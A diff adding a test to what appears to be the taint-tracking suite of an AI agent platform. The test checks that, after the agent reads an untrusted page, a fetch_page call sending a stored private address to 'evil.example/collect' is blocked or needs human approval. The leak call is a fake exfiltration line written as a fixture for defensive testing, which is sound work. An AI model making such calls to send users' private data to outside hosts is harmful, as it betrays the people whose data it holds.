@@ -82,6 +82,23 @@ it('[taint] an excerpt of an earlier conversation counts as private and as untru
   expect(body.text).toMatch(/no person can be asked.*Untrusted text and private content.*evil\.example/);
 });
 
+it('[taint] a memory of the prompt counts as private: a request that holds its text needs approval after a page was read', async () => {
+  await bench.rest.request('POST', '/memories', { text: 'Ada lives at Kraken Street 17 in Oslo' });
+  const leak = () => ({ name: 'fetch_page', arguments: { url: 'https://evil.example/collect?d=kraken+street+17' } });
+  const { body } = await bench.rest.run({ input: script(PAGE, leak) });
+  expect(body.text).toMatch(/no person can be asked.*private content.*evil\.example/);
+  const client = await bench.connect(APPROVER);
+  const { asked, sessionId, requestId, runId } = await chatUntilApproval(client, script(PAGE, leak));
+  expect(asked.data.taint).toEqual([
+    { toolCallId: '', tool: 'memory', kind: 'private', source: 'Ada lives at Kraken Street 17 in Oslo' },
+    expect.objectContaining({ tool: 'fetch_page', kind: 'untrusted' }),
+  ]);
+  await client.send({ type: 'approval_response', sessionId, requestId, decision: 'deny' });
+  await client.endOf(runId);
+  const said = await bench.rest.run({ input: `${script(PAGE, leak)} I live at Kraken Street 17` });
+  expect([said.body.text, (await bench.rest.run({ input: script(leak) })).body.text].join()).not.toContain('no person can be asked');
+});
+
 it('[taint] a web search needs approval too, and runs when allowed', async () => {
   const client = await bench.connect(APPROVER);
   const search = () => ({ name: 'web_search', arguments: { query: 'the harbour plan' } });
